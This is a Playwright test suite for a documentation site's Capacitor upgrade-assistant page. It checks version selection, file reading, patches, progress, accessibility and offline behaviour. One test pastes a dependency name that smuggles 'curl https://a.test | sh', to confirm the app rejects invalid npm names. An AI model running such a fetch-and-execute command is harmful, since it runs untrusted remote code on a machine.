import path from 'node:path';
import {text as textOf} from 'node:stream/consumers';
import type {Locator, Page} from 'playwright-core';
import {colorViolations, violations} from '../support/axe';
import {LATEST_VERSION} from '../../src/data/versions';
import {patchOf} from '../../packages/upgrade/markdown';
import {planOf, projectDir, projectFiles, projectNames, reviewOf, upgradeOf} from '../support/assistant';
import {testSite, type OpenOptions, type OpenPage} from '../support/browser';
import {breakElement} from '../support/brokenElement';
import {openEarly} from '../support/earlyPage';
import {layoutShiftsOf, paintWhole} from '../support/layoutShift';
import {arriveAt, expectFocused} from '../support/reader';
import {expectSeen} from '../support/seen';
import {setDark} from '../support/theme';
import {expectSoon, settle} from '../support/waiting';

const LATEST = Number(LATEST_VERSION.slice(1));
const PAGE = '/docs/updating/assistant';
const PHONE = {width: 390, height: 844};
const DESKTOP = {width: 1440, height: 900};
/** A project with files of every kind. */
const PROJECT = 'angular-3-to-7';

const site = testSite();

const title = (page: Page): Locator => page.getByRole('heading', {level: 2, name: /^Checklist from/});
/** Returns the title without the link to it, which is an invisible character. */
const titleText = async (page: Page): Promise<string> =>
  (await title(page).innerText()).replace('\u200b', '');
const boxes = (page: Page): Locator => page.locator('article').getByRole('checkbox');
const status = (page: Page): Locator => page.getByRole('region', {name: 'Your project'}).getByRole('status');
const expectStatus = (page: Page, text: RegExp): Promise<void> =>
  status(page).filter({hasText: text}).waitFor();
const expectTitle = (page: Page, text: string): Promise<void> => expectSoon(() => titleText(page), text);
/** The entries of the table of contents that are marked. */
const marked = (page: Page): Promise<string[]> =>
  page.locator('.theme-doc-toc-desktop [aria-current=location]').allInnerTexts();
const folderInput = (page: Page): Locator => page.getByLabel('Choose a project folder');

async function open(search = '', options: OpenOptions = {}): Promise<OpenPage> {
  const opened = await site.open(PAGE + search, {
    viewport: DESKTOP,
    reducedMotion: 'reduce',
    permissions: ['clipboard-read', 'clipboard-write'],
    ...options,
  });
  if (options.javaScriptEnabled !== false) await expectStarted(opened.page);
  return opened;
}

/** Waits until the application has taken over from the server's HTML. */
async function expectStarted(page: Page): Promise<void> {
  await page.locator('.ua:not([data-pending]) > .ua-form:not([inert])').waitFor();
}

/** Checks that a reader who scrolls to an element sees it, inside the viewport. The test with axe compares its colors. */
async function expectShown(element: Locator): Promise<void> {
  await element.scrollIntoViewIfNeeded();
  const {width: right = 0, height: bottom = 0} = element.page().viewportSize() ?? {};
  await expectSoon(async () => {
    const {x = -1, y = -1, width = 0, height = 0} = (await element.boundingBox()) ?? {};
    const begins = x >= 0 && y >= 0 && width > 0 && height > 0;
    // Browsers scroll by whole pixels, and boxes end between them.
    return begins && x + width <= right && Math.floor(y + height) <= bottom;
  }, true);
}

/** Drops files or folders from the disk, as a reader's mouse does. */
async function drop(page: Page, ...paths: string[]): Promise<void> {
  const area = page.locator('.ua-drop');
  await area.scrollIntoViewIfNeeded();
  const {x = 0, y = 0} = (await area.boundingBox()) ?? {};
  const session = await page.context().newCDPSession(page);
  const data = {items: [], files: paths, dragOperationsMask: 1};
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', {type, x: x + 5, y: y + 5, data});
  }
}

/** Opens the text field and gives it a text. */
async function paste(page: Page, text: string, kind?: string): Promise<void> {
  const details = page.getByText('Paste a file', {exact: true});
  if (!(await page.getByLabel('Text of the file').isVisible())) await details.click();
  await page.getByLabel('Text of the file').fill(text);
  if (kind) await page.getByLabel('Which file').selectOption(kind);
  await page.getByRole('button', {name: 'Read the text'}).click();
}

async function copiedList(page: Page): Promise<string> {
  await page.getByRole('button', {name: 'Copy as Markdown'}).click();
  await page.getByText('The list was copied as Markdown.').waitFor();
  return page.evaluate(() => navigator.clipboard.readText());
}

/** The reviewed checklist of a project, with the site that the browser is on and without the notes about files. */
function reviewedList(name: string): string {
  const review = reviewOf(name);
  return review.replace(/^> .*\n\n/gm, '').replaceAll('https://example.com', site.origin);
}

describe('the versions', () => {
  it('are those of the address, and choosing others changes it', async () => {
    const {page} = await open('?from=v3&to=v5');
    expect(await titleText(page)).toBe('Checklist from 3 to 5');
    await page.getByLabel('To', {exact: true}).selectOption('7');
    await expectTitle(page, 'Checklist from 3 to 7');
    expect(new URL(page.url()).search).toBe('?from=v3&to=v7');
    await page.reload();
    await expectStarted(page);
    await expectTitle(page, 'Checklist from 3 to 7');
  });

  it('stay possible: a later start moves the target', async () => {
    const {page} = await open('?from=v3&to=v4');
    await page.getByLabel('From', {exact: true}).selectOption('6');
    await expectTitle(page, 'Checklist from 6 to 7');
  });

  it.each(['?from=v7&to=v3', '?from=abc&to=v7'])('that do not exist get a sentence: %s', async (search) => {
    const {page} = await open(search);
    expect(await titleText(page)).toBe(`Checklist from ${LATEST - 1} to ${LATEST}`);
    await expectShown(page.getByText('It should be like ?from=v3&to=v7'));
  });
});

describe.each([
  ['a phone', PHONE],
  ['a desktop', DESKTOP],
])('before the scripts arrive, on %s', (_name, viewport) => {
  const early = (search = '') =>
    openEarly(site, PAGE + search, {viewport, reducedMotion: 'reduce', prepare: paintWhole});
  /** Returns where the parts of the form and of the list are. */
  const places = (page: Page): Promise<string[]> =>
    page
      .locator('.ua :is(h2, h3, select, .button, .ua-step__head)')
      .filter({visible: true})
      .evaluateAll((parts) =>
        parts.map((part) => {
          const {x, y, width, height} = part.getBoundingClientRect();
          return `${part.textContent.slice(0, 40)}: ${[x, y, width, height].map(Math.round).join(' ')}`;
        }),
      );

  it('shows the form and the usual list, and nothing moves when they start to work', async () => {
    const {page, hydrate} = await early();
    expect(await titleText(page)).toMatch(`Checklist from ${LATEST - 1} to ${LATEST}`);
    await expectShown(page.locator('.ua-drop label').first());
    const before = await places(page);
    expect(before.length).toBeGreaterThan(20);
    await hydrate();
    await expectStarted(page);
    expect(await places(page)).toEqual(before);
    expect(await layoutShiftsOf(page)).toEqual([]);
  });

  it('keeps the place of a list for other versions, and of one with progress', async () => {
    const {page, hydrate} = await early('?from=v3&to=v5');
    expect(await title(page).isVisible()).toBe(false);
    await hydrate();
    await expectStarted(page);
    expect(await titleText(page)).toMatch('Checklist from 3 to 5');
    expect(await layoutShiftsOf(page)).toEqual([]);
    await page.goto(site.origin + PAGE);
    await expectStarted(page);
    await boxes(page).nth(1).check();
    await page.reload();
    await expectStarted(page);
    expect(await boxes(page).nth(1).isChecked()).toBe(true);
    expect(await layoutShiftsOf(page)).toEqual([]);
  });

  it('keeps the steps that the reader has already done', async () => {
    const {page, hydrate} = await early();
    await boxes(page).first().check();
    await hydrate();
    await expectStarted(page);
    expect(await boxes(page).first().isChecked()).toBe(true);
    await expectShown(page.getByText(/^1 of \d+ steps done$/));
  });
});

describe('the page', () => {
  it('shows where the checklist starts, and lists it in its contents, marked wherever the reader is in it', async () => {
    const {page} = await open('?from=v6&to=v7');
    await expectSeen(title(page));
    await expectSeen(page.getByRole('button', {name: 'Copy as Markdown'}));
    const contents = page.locator('.theme-doc-toc-desktop');
    await contents.getByRole('link', {name: 'Checklist from 6 to 7', exact: true}).click();
    await expectSoon(() => marked(page), ['Checklist from 6 to 7']);
    for (const name of ['Packages', 'Sync and test']) {
      await page
        .getByRole('heading', {name, exact: true, level: 3})
        .evaluate((heading) => heading.scrollIntoView({behavior: 'instant'}));
      await settle(page);
      await expectSoon(() => marked(page), ['Checklist from 6 to 7']);
    }
    await page.getByLabel('To', {exact: true}).selectOption('8');
    await expectTitle(page, 'Checklist from 6 to 8');
    await expectSoon(() => marked(page), ['Checklist from 6 to 8']);
    await contents.getByRole('link', {name: 'Without the assistant', exact: true}).click();
    await expectSoon(() => marked(page), ['Without the assistant']);
  });

  it('has buttons for files that a keyboard reaches, with a ring around the focused one', async () => {
    let choosers = 0;
    const {page} = await open('', {
      // Playwright needs a moment to take over choosers once there is a listener, so it is there from the beginning.
      prepare: (opened) => Promise.resolve(void opened.on('filechooser', () => (choosers += 1))),
    });
    await page.getByLabel('To', {exact: true}).focus();
    for (const [i, name] of ['Choose a project folder', 'Choose files'].entries()) {
      await page.keyboard.press('Tab');
      const input = page.getByLabel(name, {exact: true});
      await expectFocused(input);
      const button = page.locator('.ua-drop label').filter({hasText: name});
      await expectSeen(button);
      expect(await button.evaluate((label) => getComputedStyle(label).outlineStyle)).toBe('solid');
      await page.keyboard.press('Enter');
      await expectSoon(() => Promise.resolve(choosers), i + 1);
    }
  });
});

describe('a project folder', () => {
  // The reviewed checklists of all projects are compared without a browser.
  it.each(['chosen', 'dropped'])('that is %s gets the reviewed checklist', async (how) => {
    const {from, to} = upgradeOf(PROJECT);
    const {page, problems} = await open(`?from=v${from}&to=v${to}`);
    if (how === 'chosen') await folderInput(page).setInputFiles(projectDir(PROJECT));
    else await drop(page, projectDir(PROJECT));
    await expectStatus(page, /The list has \d+ steps\./);
    expect(await copiedList(page)).toBe(reviewedList(PROJECT));
    expect(problems).toEqual([]);
  });

  it('sets the versions, and shows what was found', async () => {
    const {page} = await open('?from=v5&to=v6');
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectTitle(page, 'Checklist from 3 to 6');
    const found = page.getByRole('region', {name: 'Your project'});
    const summary = found.getByText(/^Capacitor 3 · iOS and Android · \w+ · \d+ plugins$/);
    await expectShown(summary);
    await summary.click();
    await expectShown(found.getByText(/@capacitor\/camera, @capacitor\/filesystem/));
  });

  it('gets one patch, to download and to copy, and a task', async () => {
    const {page} = await open();
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectStatus(page, /The list has/);
    const {from, to} = upgradeOf(PROJECT);
    const patch = patchOf(planOf(projectFiles(PROJECT), {from, to}).changes);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', {name: 'Download patch'}).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`capacitor-${from}-to-${to}.patch`);
    expect(await textOf(await download.createReadStream())).toBe(patch);
    await page.getByRole('button', {name: 'Copy patch'}).click();
    await page.getByText('The patch was copied.').waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(patch);
    await page.getByRole('button', {name: 'Copy as a task'}).click();
    await page.getByText('The task was copied.').waitFor();
    const task = await page.evaluate(() => navigator.clipboard.readText());
    expect(task).toContain(`Update this app from Capacitor ${from} to ${to}.`);
    expect(task).toMatch(/## Pages to read\n\n- <http\S+\/updating\/7-0\.md>/);
  });

  it('on the target gets no list', async () => {
    const {page} = await open(`?from=v${LATEST - 1}&to=v${LATEST}`);
    await paste(page, `{"dependencies": {"@capacitor/core": "^${LATEST + 1}.0.0"}}`);
    await expectShown(page.getByText(`This project already has Capacitor ${LATEST + 1}`));
    expect(await boxes(page).count()).toBe(0);
  });

  it('has progress of its own, and a note where to get it back', async () => {
    const {page} = await open();
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectStatus(page, /The list has/);
    await boxes(page).first().check();
    await page.reload();
    await expectStarted(page);
    await expectShown(page.getByText('You have progress for a project of yours.'));
    expect(await boxes(page).first().isChecked()).toBe(false);
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectStatus(page, /The list has/);
    expect(await boxes(page).first().isChecked()).toBe(true);
  });

  it('without package.json gets a sentence', async () => {
    const {page} = await open();
    await folderInput(page).setInputFiles(path.join(projectDir(PROJECT), 'android'));
    await expectShown(page.getByText('It has no package.json. Choose the folder of your project'));
  });

  it('with several apps lets the reader choose one', async () => {
    const {page} = await open();
    await folderInput(page).setInputFiles(projectDir('monorepo-4-to-7'));
    await page.getByLabel('App', {exact: true}).selectOption('apps/kiosk');
    await page.getByText(/^Capacitor 5 · /).click();
    await expectShown(page.getByText('Files: apps/kiosk/package.json; 1 source file', {exact: true}));
  });

  it('has a list whose length is told again when the versions or the app change', async () => {
    const {page} = await open('?from=v4&to=v7');
    await folderInput(page).setInputFiles(projectDir('monorepo-4-to-7'));
    const told = async (): Promise<boolean> => {
      const count = await boxes(page).count();
      return (await status(page).innerText()).endsWith(`The list has ${count} steps.`);
    };
    await expectSoon(told, true);
    const before = await boxes(page).count();
    await page.getByLabel('App', {exact: true}).selectOption('apps/kiosk');
    await expectSoon(async () => (await boxes(page).count()) !== before, true);
    await expectSoon(told, true);
    for (const to of ['6', '8', '7', '6']) await page.getByLabel('To', {exact: true}).selectOption(to);
    await expectTitle(page, 'Checklist from 5 to 6');
    await expectSoon(told, true);
  });

  it('is forgotten on request', async () => {
    const {page} = await open('?from=v3&to=v7');
    const before = await boxes(page).count();
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectSoon(async () => (await boxes(page).count()) < before, true);
    await page.getByRole('button', {name: 'Forget these files'}).click();
    await expectSoon(() => boxes(page).count(), before);
    expect(await page.getByText('notes.service.ts').count()).toBe(0);
  });
});

describe('what is dropped', () => {
  it('can be files, even two of the same name', async () => {
    const {page} = await open('?from=v5&to=v7');
    const android = path.join(projectDir('react-5-to-7-spm'), 'android');
    await drop(page, path.join(android, 'build.gradle'), path.join(android, 'variables.gradle'));
    await expectStatus(page, /2 files were read./);
    await drop(page, path.join(android, 'app/build.gradle'));
    await expectStatus(page, /1 file was read./);
    for (const file of ['android/build.gradle', 'android/variables.gradle', 'android/app/build.gradle']) {
      await expectShown(page.locator('figcaption').getByText(file, {exact: true}).first());
    }
  });

  it('can be something else, which gets a sentence', async () => {
    const {page} = await open();
    await page.locator('.ua-drop').evaluate((area) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.setData('text/plain', 'Dear diary');
      area.dispatchEvent(new DragEvent('drop', {bubbles: true, cancelable: true, dataTransfer}));
    });
    await expectShown(page.getByText('It has no files. Drop package.json'));
  });
});

describe('the application', () => {
  it('gives the Kotlin version in a variable one diff, and says what of a file it cannot use', async () => {
    const {page} = await open('?from=v5&to=v7');
    const library = 'classpath "org.jetbrains.kotlin:kotlin-gradle-plugin:$kotlin_version"';
    await paste(
      page,
      `buildscript {\n  ext.kotlin_version = '1.8.20'\n  dependencies {\n    ${library}\n  }\n}\n`,
      'android/build.gradle',
    );
    const raised = page.locator('ins.line', {hasText: 'ext.kotlin_version ='});
    await expectShown(raised);
    await paste(page, '{"dependencies": {"@capacitor/core": "^5.0.0", "x; curl https://a.test | sh": "1"}}');
    await expectShown(page.getByText("npm doesn't allow these names of dependencies, so they were left out"));
    await expectShown(raised);
  });

  it('loses only the steps with a fault, and says so in their place', async () => {
    const {page: whole} = await open('?from=v3&to=v7');
    const count = await boxes(whole).count();
    const conditional = await whole.locator('.ua-condition').count();
    expect(conditional).toBeGreaterThan(0);
    const {page} = await open('?from=v3&to=v7', {
      prepare: (opened) => breakElement(opened, 'class', 'ua-condition'),
    });
    const failed = page.getByRole('listitem').filter({hasText: 'not today'});
    expect(await failed.count()).toBe(conditional);
    await expectShown(failed.first());
    expect(await failed.first().innerText()).toMatch(/failed.*guide/);
    expect(await boxes(page).count()).toBe(count - conditional);
    await boxes(page).first().check();
    await expectShown(page.getByText(/^1 of \d+ steps done$/));
  });

  it('that fails says so, and leads to the guides', async () => {
    const {page} = await site.open(`${PAGE}?from=broken`, {
      viewport: DESKTOP,
      prepare: async (opened) => {
        await opened.addInitScript(() => {
          const original: unknown = Reflect.get(URLSearchParams.prototype, 'get');
          const get = original as (this: URLSearchParams, name: string) => string | null;
          URLSearchParams.prototype.get = function (name): string | null {
            if (name === 'from' && get.call(this, name) === 'broken') throw new Error('not today');
            return get.call(this, name);
          };
        });
      },
    });
    await expectSeen(page.getByText('The assistant failed: not today'));
    const guide = page.getByRole('alert').getByRole('link', {name: `Updating to ${LATEST}.0`});
    expect(await guide.getAttribute('href')).toBe(`/docs/updating/${LATEST}-0`);
    await expectSeen(page.getByRole('heading', {level: 1}));
  });
});

describe('a pasted text', () => {
  it('is told by its content', async () => {
    const {page} = await open('?from=v6&to=v7');
    await paste(page, '{"dependencies": {"@capacitor/core": "^4.1.0", "@capacitor/android": "^4.1.0"}}');
    await expectTitle(page, 'Checklist from 4 to 7');
    expect(await page.getByLabel('Text of the file').isVisible()).toBe(false);
    await expectSeen(page.getByText('Capacitor 4 · Android · commands for npm', {exact: true}));
    await expectSeen(title(page));
    await paste(page, 'ext {\n  minSdkVersion = 22\n}');
    await expectShown(page.getByText('minSdkVersion = 23'));
  });

  it('that is something else or broken gets a sentence, and keeps the focus', async () => {
    const {page} = await open();
    await paste(page, 'Dear diary');
    await expectShown(
      page.getByRole('alert').filter({hasText: /looks like none of the files[^]*package\.json/}),
    );
    await expectFocused(page.getByLabel('Text of the file'));
    await paste(page, '{"dependencies": {\n"a": "1"\n"b": "2"}}');
    await expectShown(page.getByText("It isn't valid JSON: on line 3, a comma is missing."));
  });

  it('and a chosen file of another kind get a sentence', async () => {
    const {page} = await open();
    await page
      .getByLabel('Choose files')
      .setInputFiles({name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from('x')});
    await expectShown(page.getByText("This isn't one of the files that the assistant reads."));
  });
});

describe('progress', () => {
  it('is kept for the versions, hides what is done, and starts over', async () => {
    const {page} = await open('?from=v6&to=v7');
    const first = boxes(page).first();
    const name = await page.locator('.ua-step').first().locator('label').innerText();
    await first.check();
    await expectShown(page.getByText(/^1 of \d+ steps done$/));
    await page.reload();
    await expectStarted(page);
    expect(await page.getByRole('checkbox', {name}).isChecked()).toBe(true);
    expect(await page.locator('.ua-step').first().getByText('Check:').isVisible()).toBe(false);
    const more = page.getByRole('button', {name: 'Details of this step'});
    await more.click();
    await expectShown(page.locator('.ua-step').first().getByText('Check:'));
    await more.click();
    await page.locator('.ua-step').first().getByText('Check:').waitFor({state: 'hidden'});
    await page.getByRole('button', {name: 'Start over'}).click();
    await page.getByRole('button', {name: 'Start over'}).waitFor({state: 'detached'});
    await expectFocused(first);
    expect(await page.getByRole('checkbox', {name}).isChecked()).toBe(false);
  });

  it('says if the browser blocks storage', async () => {
    const {page} = await open('', {
      prepare: async (one) => {
        await one.addInitScript(() => {
          const block = (): never => {
            throw new DOMException('Blocked', 'SecurityError');
          };
          Object.assign(Storage.prototype, {getItem: block, setItem: block, removeItem: block});
        });
      },
    });
    await expectShown(page.getByText('The browser blocks storage for this site'));
    await boxes(page).first().check();
    expect(await boxes(page).first().isChecked()).toBe(true);
  });
});

describe('the files stay in the browser', () => {
  it('with the network gone and nothing requested, and out of the address and storage', async () => {
    const {page, context} = await open('?from=v3&to=v7');
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await context.setOffline(true);
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await expectStatus(page, /The list has/);
    await boxes(page).first().check();
    await copiedList(page);
    // The site prefetches pages whose links are hovered. Anything else would be the assistant's.
    expect(requests.filter((url) => !/\/docs\/(?:fragments|versions)\/[\w./-]+$/.test(url))).toEqual([]);
    expect(new URL(page.url()).search).toBe('?from=v3&to=v7');
    const stored = await page.evaluate(() => JSON.stringify({...localStorage, ...sessionStorage}));
    expect(stored).not.toContain('fieldnotes');
    expect(stored).not.toContain('camera');
  });
});

it('starts when a reader comes from another page, and ends when the reader leaves', async () => {
  const {page, problems} = await site.open('/docs/updating/7-0', {viewport: DESKTOP});
  await page.getByRole('link', {name: 'Upgrade assistant', exact: true}).first().click();
  await expectStarted(page);
  await page.getByRole('link', {name: 'Updating to 7.0', exact: true}).first().click();
  await arriveAt(page, 'Updating to 7.0');
  await expectSoon(() => page.evaluate(() => document.adoptedStyleSheets.length), 0);
  await page.goBack();
  await title(page).waitFor();
  expect(problems).toEqual([]);
});

test('without scripts, the page has the usual list and no form, and links to the guides', async () => {
  const {page} = await open('', {javaScriptEnabled: false});
  await expectShown(title(page));
  expect(await boxes(page).count()).toBeGreaterThan(20);
  expect(await page.getByLabel('From', {exact: true}).isVisible()).toBe(false);
  expect(await page.getByRole('button', {name: 'Copy as Markdown'}).isVisible()).toBe(false);
  await expectShown(page.getByText('The assistant needs JavaScript for other versions'));
  const links = await page
    .locator('article')
    .getByRole('link', {name: /^Updating to \d/})
    .count();
  expect(links).toBeGreaterThanOrEqual(5);
});

test('the whole list can be worked through with the keyboard', async () => {
  const {page} = await open('?from=v6&to=v7');
  await page.getByLabel('From', {exact: true}).focus();
  await page.keyboard.press('ArrowUp');
  await expectTitle(page, 'Checklist from 5 to 7');
  await boxes(page).first().focus();
  await page.keyboard.press('Space');
  expect(await boxes(page).first().isChecked()).toBe(true);
  await page.getByText('Paste a file', {exact: true}).focus();
  await page.keyboard.press('Enter');
  await page.keyboard.press('Tab');
  await page.keyboard.type('{"appId": "a.b"}');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expectStatus(page, /^1 file was read\./);
});

describe.each([
  ['a phone', PHONE],
  ['a desktop', DESKTOP],
])('on %s', (_name, viewport) => {
  it('nothing is wider than the page, and nothing is hard to access or to read', async () => {
    const {page} = await open('?from=v3&to=v7', {viewport});
    await folderInput(page).setInputFiles(projectDir(PROJECT));
    await paste(page, 'Dear diary');
    await expectShown(page.getByRole('alert').last());
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBe(viewport.width);
    // Of a field that the bars above the page cover in part, axe measures the rest.
    await page.evaluate(() => {
      scrollTo(0, 0);
    });
    expect(await violations(page)).toEqual([]);
    await setDark(page);
    expect(await colorViolations(page)).toEqual([]);
  });
});

test('a print has the whole list, and no controls', async () => {
  const {page} = await open('?from=v6&to=v7');
  await boxes(page).first().check();
  await setDark(page);
  await page.emulateMedia({media: 'print'});
  // A dark box that isn't checked looks like one that is.
  expect(
    await boxes(page)
      .last()
      .evaluate((box) => getComputedStyle(box).colorScheme),
  ).toBe('light');
  expect(await page.locator('.ua-step').first().getByText('Check:').isVisible()).toBe(true);
  expect(await page.getByRole('button', {name: 'Print'}).isVisible()).toBe(false);
  expect(await page.getByLabel('Choose files').isVisible()).toBe(false);
});

test('every file of the projects is read or skipped without an error', async () => {
  const {page, problems} = await open('?from=v2&to=v8');
  for (const name of projectNames()) await folderInput(page).setInputFiles(projectDir(name));
  const count = new Set(projectNames().flatMap((name) => projectFiles(name).map(({path: file}) => file)))
    .size;
  expect(count).toBeGreaterThan(20);
  await expectStatus(page, /The list has/);
  expect(problems).toEqual([]);
});
